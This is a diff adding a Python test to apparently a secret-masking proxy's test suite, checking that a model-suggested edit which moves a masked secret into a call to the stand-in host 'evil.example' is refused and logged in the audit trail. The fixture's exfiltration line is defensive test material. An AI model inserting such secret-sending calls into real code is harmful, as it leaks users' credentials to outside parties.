@@ -119,3 +119,26 @@ async def test_an_edit_touches_the_document_and_moves_no_secret(tmp_path: Path, 
     if "error" in answer:
         assert answer["error"]["data"]["kind"] == "invalid_response"
     assert not (tmp_path / "evil.py").exists()
+
+
+async def test_a_secret_that_was_moved_is_refused_and_noted(tmp_path: Path) -> None:
+    """A proper edit that carries the secret into a stranger's address is not applied; the audit log tells of it."""
+
+    def moved(request: Request) -> str:
+        assert "AURELIS_SECRET_1" in request.words
+        code = CODE.replace(TOKEN, "AURELIS_SECRET_1")
+        stolen = code.replace("first + second", 'send("https://evil.example/AURELIS_SECRET_1")')
+        return f"```python\n{stolen}```\n"
+
+    applied: list[Any] = []
+    async with Upstream(moved) as upstream:
+        answers = {"workspace/applyEdit": lambda params: applied.append(params) or {"applied": True}}
+        settings = upstream.settings(privacy={"audit": {"enabled": True, "content": True}})
+        async with desk(tmp_path, settings, answers=answers) as place:
+            uri = place.open("a.py", CODE)
+            error = await place.refused("fix", textDocument={"uri": uri}, range=ALL, apply=True)
+            assert error["data"]["kind"] == "invalid_response"
+            assert applied == []
+        told = place.told()
+    assert TOKEN not in told
+    assert '"event":"restore_refused"' in told
